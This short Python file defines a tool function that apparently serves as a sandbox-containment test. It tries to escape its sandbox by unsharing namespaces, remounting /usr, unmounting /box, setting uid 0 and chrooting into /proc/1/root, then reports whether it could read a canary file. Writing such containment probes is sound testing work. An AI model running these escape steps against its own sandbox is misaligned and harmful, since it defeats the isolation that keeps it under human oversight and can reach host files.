"""Makes itself root, in a world of its own, and unmounts and mounts there."""

import ctypes
import os


def execute_tool(name, args, context, records):
    libc = ctypes.CDLL(None, use_errno=True)
    CLONE_NEWNS, CLONE_NEWUSER = 0x00020000, 0x10000000
    for flags in (CLONE_NEWUSER | CLONE_NEWNS, CLONE_NEWNS):
        libc.unshare(flags)
    libc.mount(b"none", b"/usr", b"tmpfs", 0, None)
    libc.umount2(b"/box", 2)
    libc.setuid(0)
    libc.chroot(b"/proc/1/root")
    try:
        with open(args["canary"]) as file:
            return "escaped: " + file.read()
    except OSError:
        return "kept in"
